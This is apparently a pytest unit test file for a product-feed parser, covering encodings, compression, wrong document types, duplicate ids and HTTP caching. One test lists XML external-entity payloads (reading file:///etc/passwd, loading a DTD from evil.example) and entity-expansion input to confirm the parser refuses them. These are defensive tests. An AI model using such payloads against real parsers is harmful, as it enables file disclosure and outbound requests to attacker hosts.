"""Documents as shops serve them: encodings, compression, damage, and documents of other kinds."""

import gzip

import pytest

from productagg.sources.base import Failure, NotModified, Snapshot
from productagg.sources.feed.adapter import FeedAdapter
from productagg.sources.web import Validators
from tests.unit.sources.feed.feeds import (
    Served,
    failure,
    item,
    outcomes,
    read,
    read_one,
    rejected,
    remarks,
    rss,
    shop,
    shopitem,
    tag,
)

NAMED = rss(item(more=tag(title="Žluťoučký kůň")))
ENTITIES = '<!DOCTYPE rss [<!ENTITY a "12">{}]>'


def declared(encoding):
    return NAMED.replace('version="1.0"?', f'version="1.0" encoding="{encoding}"?')


@pytest.mark.parametrize(
    "body",
    [
        NAMED.encode(),
        NAMED.encode("utf-8-sig"),
        b"\r\n  " + NAMED.encode(),
        NAMED.encode("utf-16"),
        NAMED.encode("utf-16-be"),
        NAMED.encode("utf-32"),
        declared("windows-1250").encode("windows-1250"),
        declared("ISO-8859-2").encode("iso-8859-2"),
        declared("GB18030").encode("gb18030"),
        declared("utf-16").encode(),
        gzip.compress(NAMED.encode()),
        gzip.compress(declared("cp1250").encode("cp1250")),
        gzip.compress(NAMED.encode()[:50]) + gzip.compress(NAMED.encode()[50:]),
    ],
)
def test_the_encoding_is_told_by_the_document(body):
    assert read_one(body).product.name == "Žluťoučký kůň"


def test_the_configured_encoding_goes_first():
    assert read_one(declared("utf-8").encode("cp1250"), encoding="windows-1250").product.name == "Žluťoučký kůň"


def test_the_encoding_of_http_counts_where_the_document_declares_none():
    found = read_one(NAMED.encode("cp1250"), content_type="text/xml; charset=windows-1250")
    assert found.product.name == "Žluťoučký kůň"


@pytest.mark.parametrize("body", [declared("punycode"), declared("no-such"), NAMED.encode("cp1250")])
def test_a_wrong_or_unknown_encoding_is_a_failure(body):
    assert failure(body).code in {"unknown_encoding", "broken_xml"}


@pytest.mark.parametrize(
    ("body", "code", "words"),
    [
        ("", "no_items", "empty"),
        (" \n", "no_items", "empty"),
        ("<!DOCTYPE html><html><body>Shop</body></html>", "html", "an HTML page"),
        ("\n<!-- x -->\n<HTML>", "html", "an HTML page"),
        ('<?xml version="1.0"?><!doctype html><html/>', "html", "an HTML page"),
        ('{"products": []}', "not_a_feed", "JSON"),
        (b"PK\x03\x04", "not_a_feed", "zip"),
        (b"\x00\x01\x02", "not_a_feed", "not text"),
        ("Not found", "not_a_feed", "no column for the id"),
        ("<catalog><item/></catalog>", "not_a_feed", "the root catalog without a namespace"),
        ("<item_list/>", "not_a_feed", "Heureka's availability feed"),
        ('<offers><o id="1" price="2"/></offers>', "not_a_feed", "Ceneo's feed"),
        (rss(item(), namespace="urn:other"), "not_a_feed", "urn:other"),
    ],
)
def test_another_document_is_a_failure_that_says_what_was_found(body, code, words):
    found = failure(body)
    assert found.code == code
    assert words in found.reason


@pytest.mark.parametrize(
    ("body", "expected"),
    [(rss(item()), "heureka"), (rss(item()), "csv"), (shop(shopitem()), "merchant"), ("id\tprice\n", "zbozi")],
)
def test_a_known_format_that_is_not_the_configured_one_is_a_failure(body, expected):
    assert failure(body, format=expected, currency="CZK").code == "not_a_feed"


@pytest.mark.parametrize(
    "body", [rss(), rss().replace("<channel>", "<channel><!-- none -->"), "<SHOP/>", "id\tprice\n"]
)
def test_an_empty_feed_is_a_failure(body):
    assert failure(body, currency="CZK").code == "no_items"


def test_a_supplemental_feed_is_a_failure():
    found = failure(rss(tag(id="A", custom_label_0="x"), tag(id="B")))
    assert found.code == "no_offers"
    assert "supplemental" in found.reason


def test_xml_that_breaks_off_keeps_what_was_read_and_is_not_complete():
    body = rss(item("A"), item("B"))
    *before, last = outcomes(body[: body.index("B")])
    assert [offer.locator for outcome in before for offer in outcome.offers] == ["A"]
    assert before[-1].incomplete_because == last.reason
    assert before[-1].validators == Validators()
    assert last.code == "broken_xml"
    assert "1 items were read" in last.reason


@pytest.mark.parametrize("after", ["<b>Warning</b>: memory exhausted", "x", "<rss/>"])
def test_text_after_the_root_is_a_failure(after):
    assert failure(rss(item()) + after).code == "broken_xml"


def test_a_compressed_document_that_is_cut_is_a_failure():
    body = gzip.compress(rss(*(item(f"{number}") for number in range(100))).encode())
    assert failure(body[:-20]).code == "broken_gzip"
    assert failure(body[:-2]).code == "broken_gzip"


@pytest.mark.parametrize(
    "body",
    [
        ENTITIES.format("") + rss(item(price="&a;.50 EUR")).partition("?>")[2],
        ENTITIES.format('<!ENTITY b "&a;&a;&a;">') + rss(item()).partition("?>")[2],
        '<!DOCTYPE rss [<!ENTITY f SYSTEM "file:///etc/passwd">]>' + rss(item("&f;")).partition("?>")[2],
        '<!DOCTYPE rss SYSTEM "https://evil.example/a.dtd">' + rss(item(price="1&a;2 EUR")).partition("?>")[2],
        '<!DOCTYPE rss [<!ENTITY % p SYSTEM "https://evil.example/a.dtd"> %p;]>' + rss(item()).partition("?>")[2],
    ],
)
def test_entities_are_refused(body):
    assert failure(body).code == "entities"


@pytest.mark.parametrize(
    "body",
    [
        rss("<a>" * 50_000),
        rss(item(more=tag(title="x" * 2_000_000))),
        rss(item(more="<g:shipping/>" * 20_000)),
        "<rss>" + "<!--" + "x" * 4_000_000,
        "id\tprice\n" + "x" * 2_000_000,
    ],
)
def test_what_no_feed_has_is_refused_before_it_needs_memory(body):
    assert failure(body).code in {"too_large", "broken_table"}


def test_repeated_ids_with_equal_offers_count_once():
    feed = rss(item("A"), item("B"), item("A", more=tag(product_type="Other")))
    assert [offer.locator for offer in read(feed)] == ["A", "B"]
    assert "more than once" in remarks(feed)["A"]


def test_repeated_ids_with_different_offers_are_all_rejected_however_far_apart():
    others = [item(f"N{number}") for number in range(2500)]
    feed = rss(item("A"), *others, item("A", "13.00 EUR"), item("A"))
    assert {offer.locator for offer in read(feed)} == {f"N{number}" for number in range(2500)}
    assert rejected(feed) == {"A": "several items have its id and differ"}


def test_snapshots_have_at_most_a_thousand_offers_and_only_the_last_is_complete():
    found = outcomes(rss(*(item(f"{number}") for number in range(2001))))
    assert [len(snapshot.offers) for snapshot in found] == [1000, 1000, 1]
    assert [snapshot.complete for snapshot in found] == [False, False, True]


def test_the_same_digest_is_not_modified_and_costs_one_request():
    (first,) = outcomes(rss(item()))
    web = Served(rss(item()).encode())
    assert outcomes("", web=web, validators=first.validators) == [NotModified()]
    assert len(web.asked) == 1
    assert isinstance(outcomes(rss(item("B")), validators=first.validators)[0], Snapshot)


def test_the_validators_of_the_response_are_kept_and_sent():
    web = Served(rss(item()).encode(), validators=Validators('"1"', "Tue, 01 Dec 2026 10:00:00 GMT"))
    (first,) = outcomes("", web=web)
    assert first.validators.etag == '"1"'
    assert outcomes("", web=web, validators=first.validators) == [NotModified()]
    assert web.asked[-1] == first.validators


def test_a_response_that_cannot_be_had_is_a_failure():
    assert outcomes("", web=Served(error=("Status 503.", "status_503"))) == [Failure("Status 503.", "status_503")]


@pytest.mark.parametrize("locator", ["", "  ", "A" * 201, "A\nB", "A\0"])
def test_a_locator_that_is_no_id_is_refused(locator):
    with pytest.raises(ValueError, match="1 to 200 characters"):
        FeedAdapter().check_locator(locator)


def test_a_locator_is_trimmed():
    assert FeedAdapter().check_locator(" SKU 1 ") == "SKU 1"
